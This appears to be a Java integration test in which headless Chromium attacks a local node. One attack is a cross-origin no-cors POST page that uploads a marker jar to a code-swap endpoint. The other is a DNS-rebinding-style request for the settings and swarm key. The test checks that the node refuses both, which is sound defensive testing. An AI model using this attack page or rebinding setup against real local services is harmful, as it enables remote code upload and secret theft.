package dev.axnode.deploy;

import dev.axnode.deploy.evil.StaticInitMarker;
import io.vertx.core.Future;
import io.vertx.core.Promise;
import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.http.HttpServer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.jar.Attributes;
import java.util.jar.JarEntry;
import java.util.jar.JarOutputStream;
import java.util.jar.Manifest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * A real browser (headless Chromium) attacks a real node the way a web page the operator
 * opens could: a cross-origin no-cors POST of a jar to the swap endpoint, and a
 * DNS-rebinding-style request (a foreign name resolved to 127.0.0.1) reading the settings.
 * The node must refuse both: no code from the jar runs, nothing changes, nothing leaks.
 */
class BrowserAttackIT {

  private static final Path CHROMIUM = Path.of("/usr/bin/chromium");
  private static final long BROWSER_SECONDS = 60;

  @TempDir
  Path dir;
  private Vertx vertx;
  private NodeProcess node;
  private AxCli ax;
  private Path marker;

  @BeforeEach
  void start() throws IOException {
    assumeTrue(Files.isExecutable(CHROMIUM), "chromium not installed: apt-get install chromium");
    vertx = Vertx.vertx();
    marker = dir.resolve("static-init-ran");
    node = NodeProcess.startWithJvmOptions(dir.resolve("data"),
        List.of("-D" + StaticInitMarker.MARKER_PROPERTY + "=" + marker));
    ax = new AxCli(dir.resolve("config"));
  }

  @AfterEach
  void stop() throws Exception {
    if (node != null) {
      node.close();
    }
    if (vertx != null) {
      vertx.close().await(10, TimeUnit.SECONDS);
    }
  }

  @Test
  void aPageFromAnotherOriginCannotUploadAJar() throws Exception {
    JsonObject settingsBefore = settingsVerticle();
    Promise<String> beacon = Promise.promise();
    HttpServer attacker = vertx.createHttpServer().requestHandler(request -> {
      switch (request.path()) {
        case "/" -> request.response().putHeader("content-type", "text/html").end(attackPage());
        case "/evil.jar" -> request.response().putHeader("content-type", "application/octet-stream").end(evilJar());
        case "/done" -> {
          beacon.tryComplete(request.getParam("results"));
          request.response().end();
        }
        default -> request.response().setStatusCode(404).end();
      }
    });
    int port = await(attacker.listen(0, "127.0.0.1")).actualPort();

    String dom = chromium("--virtual-time-budget=5000", "--dump-dom", "http://127.0.0.1:" + port + "/");

    String results = await(beacon.future());
    assertTrue(results != null && results.contains("no-cors"), "the page's script ran: " + results + "\n" + dom);
    System.out.printf("browser attack: the page's requests ended as %s%n", results);
    assertFalse(Files.exists(marker), "code from the uploaded jar ran inside the node");
    assertEquals(settingsBefore, settingsVerticle(), "the settings verticle changed");
    assertFalse(Files.exists(dir.resolve("data").resolve("verticles")) && hasFiles(dir.resolve("data/verticles")),
        "the refused jar was stored");
    assertTrue(node.logText().contains("ready"), node.logText());
  }

  @Test
  void aRebindingStyleRequestWithAForeignHostReadsNothing() throws Exception {
    String swarmKey = ax.run("settings", "get", "com.actyx.os/general/swarmKey", "--local", node.local()).stdout().strip();
    assertTrue(swarmKey.length() > 20, "the node has a swarm key to protect: " + swarmKey);

    String dom = chromium("--host-resolver-rules=MAP evil.test 127.0.0.1", "--dump-dom",
        "http://evil.test:" + node.httpPort() + "/api/v1/settings?scope=.");

    assertTrue(dom.contains("ERR_UNAUTHORIZED") && dom.contains("--http-allowed-hosts"), dom);
    assertFalse(dom.contains(swarmKey), "the swarm key leaked to a foreign Host");
    assertFalse(dom.contains("displayName"), "settings leaked to a foreign Host: " + dom);
  }

  /** The attacker's page: fetch the jar, POST it to the node as a simple (no-preflight) request, then report. */
  private String attackPage() {
    String swap = "http://127.0.0.1:" + node.httpPort() + "/api/v1/verticles/settings/swap?class="
        + StaticInitMarker.class.getName();
    return """
        <!doctype html><html><body><script>
        const results = [];
        const attempt = (name, init) => fetch('%s', init)
            .then(r => results.push(name + ':' + r.type + ':' + r.status), e => results.push(name + ':error'));
        fetch('/evil.jar').then(r => r.arrayBuffer()).then(async jar => {
          await attempt('no-cors', {mode: 'no-cors', method: 'POST', body: jar, headers: {'Content-Type': 'text/plain'}});
          await attempt('cors', {method: 'POST', body: jar, headers: {'Content-Type': 'application/java-archive'}});
        }).finally(() => fetch('/done?results=' + encodeURIComponent(results.join(','))));
        </script></body></html>
        """.formatted(swap);
  }

  /** Runs headless Chromium with a fresh profile, bounded in time; answers what it printed. */
  private String chromium(String... args) throws Exception {
    Path profile = Files.createTempDirectory(dir, "chromium");
    List<String> command = new ArrayList<>(List.of(CHROMIUM.toString(), "--headless", "--no-sandbox", "--disable-gpu",
        "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
        "--disable-sync", "--user-data-dir=" + profile));
    command.addAll(List.of(args));
    Process browser = new ProcessBuilder(command).redirectError(dir.resolve("chromium.err").toFile()).start();
    try (InputStream out = browser.getInputStream()) {
      Future<byte[]> dumped = vertx.executeBlocking(out::readAllBytes, false);
      assertTrue(browser.waitFor(BROWSER_SECONDS, TimeUnit.SECONDS), "chromium did not finish within "
          + BROWSER_SECONDS + " s: " + Files.readString(dir.resolve("chromium.err")));
      return new String(await(dumped), StandardCharsets.UTF_8);
    } finally {
      browser.descendants().forEach(ProcessHandle::destroyForcibly);
      browser.destroyForcibly();
      browser.waitFor(10, TimeUnit.SECONDS);
    }
  }

  private JsonObject settingsVerticle() throws Exception {
    AxCli.Result ls = ax.run("verticles", "ls", "--local", node.local(), "--json");
    assertEquals(0, ls.exitCode(), ls::toString);
    JsonArray verticles = new JsonObject(ls.stdout()).getJsonArray("result");
    for (Object verticle : verticles) {
      if ("settings".equals(((JsonObject) verticle).getString("name"))) {
        return (JsonObject) verticle;
      }
    }
    throw new AssertionError("no settings verticle: " + ls.stdout());
  }

  private static boolean hasFiles(Path directory) throws IOException {
    try (var files = Files.list(directory)) {
      return files.findAny().isPresent();
    }
  }

  /** A jar holding only {@link StaticInitMarker}, its manifest naming it as the verticle. */
  private static Buffer evilJar() {
    Manifest manifest = new Manifest();
    manifest.getMainAttributes().put(Attributes.Name.MANIFEST_VERSION, "1.0");
    manifest.getMainAttributes().putValue("Ax-Verticle", StaticInitMarker.class.getName());
    String entry = StaticInitMarker.class.getName().replace('.', '/') + ".class";
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (JarOutputStream out = new JarOutputStream(bytes, manifest);
         InputStream in = StaticInitMarker.class.getClassLoader().getResourceAsStream(entry)) {
      out.putNextEntry(new JarEntry(entry));
      in.transferTo(out);
      out.closeEntry();
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
    return Buffer.buffer(bytes.toByteArray());
  }

  private static <T> T await(Future<T> future) throws Exception {
    return future.toCompletionStage().toCompletableFuture().get(BROWSER_SECONDS, TimeUnit.SECONDS);
  }
}
